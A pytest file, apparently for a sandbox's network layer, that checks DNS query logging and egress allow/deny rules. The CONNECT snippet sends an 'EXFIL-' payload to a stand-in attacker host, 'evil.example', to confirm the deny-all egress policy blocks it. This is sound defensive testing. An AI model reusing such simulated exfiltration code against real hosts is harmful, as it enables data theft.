# SPDX-License-Identifier: Apache-2.0
"""dns.*: what a loader asks, and the answers it gets."""

import socket

import pytest

import box as b
import nameserver as ns

SERVER = "127.0.0.1"
RECORD = ["dns.*", "net.connect"]
GETADDRINFO = "import socket, sys; print(sorted({a[4][0] for a in " \
    "socket.getaddrinfo(sys.argv[1], 80, type=socket.SOCK_STREAM)}))"


@pytest.fixture(scope="module", autouse=True)
def resolv_conf(box):
    """Of this mount namespace."""
    text = f"nameserver {SERVER}\noptions timeout:2 attempts:1\n"
    b.sh(f"mount --bind {box.write('resolv.conf', text)} /etc/resolv.conf")
    yield
    b.sh("umount /etc/resolv.conf")


def test_names_and_addresses_are_recorded(box):
    table = {"huggingface.co": [b.EXT, b.EXT6, ("cname", "edge.example.net")]}
    with ns.Server(table) as server:
        done = box.run(b.PYTHON, "-c", GETADDRINFO, "HuggingFace.co", record=RECORD)
    assert done.rc == 0, done.text
    assert done.out.decode().strip() == str(sorted([b.EXT, b.EXT6]))
    assert set(server.names()) == {"HuggingFace.co"}
    queries = done.records.find("dns.query")
    assert {b.get(r, "dns.question.type") for r in queries} == {"A", "AAAA"}
    for r in queries:
        assert b.get(r, "dns.question.name") == "huggingface.co"
        assert b.get(r, "destination.ip") == SERVER and b.get(r, "destination.port") == 53
        assert b.get(r, "network.transport") == "udp" and b.get(r, "network.protocol") == "dns"
        assert b.get(r, "process.executable") == b.PYTHON or "python" in b.get(r, "process.name")
        assert not b.get(r, "dns.operation")
    answers = done.records.find("dns.answer")
    ips = [ip for r in answers for ip in b.get(r, "dns.resolved_ip")]
    assert sorted(ips) == sorted([b.EXT, b.EXT6])
    assert {b.get(r, "dns.response_code") for r in answers} == {"NOERROR"}
    assert {b.get(r, "dns.id") for r in answers} == {b.get(r, "dns.id") for r in queries}


OTHER = "203.0.113.8"
CONNECT = """
import socket, sys
for host in sys.argv[1:]:
    try:
        with socket.create_connection((host, 4443), timeout=10) as s:
            s.sendall(b"EXFIL-" + host.encode() + b".")
        print(host, 0)
    except OSError as e:
        print(host, e.errno)
"""
HUB = [{"id": "hub", "on": "net.connect", "domain": ["huggingface.co", "*.hf.co"], "port": [4443],
        "action": "allow"},
       {"id": "dns", "on": ["net.connect", "net.send"], "port": [53], "action": "allow"},
       {"id": "egress", "on": ["net.connect", "net.send"], "cidr": ["0.0.0.0/0", "::/0"],
        "action": "deny"}]


@pytest.fixture(scope="module", autouse=True)
def other_address():
    b.sh(f"ip addr add {OTHER}/32 dev lo")
    yield
    b.sh(f"ip addr del {OTHER}/32 dev lo")


def outcome(done):
    return dict(line.split() for line in done.out.decode().splitlines())


def test_a_domain_covers_the_addresses_of_its_answers_only(box):
    table = {"huggingface.co": [b.EXT], "evil.example": [OTHER]}
    with ns.Server(table), b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)) as sink:
        done = box.run(b.PYTHON, "-c", CONNECT, b.EXT, "huggingface.co", b.EXT, "evil.example",
                       OTHER, rules=HUB, record=["net.connect"])
        sink.got(b"EXFIL-huggingface.co.")
    assert done.out.decode().splitlines() == \
        [f"{b.EXT} 1", "huggingface.co 0", f"{b.EXT} 0", "evil.example 1", f"{OTHER} 1"]
    allowed = done.records.find("net.connect", rule__id="hub")
    assert [b.get(r, "destination.domain") for r in allowed] == ["huggingface.co"] * 2
    assert b"evil" not in sink.data
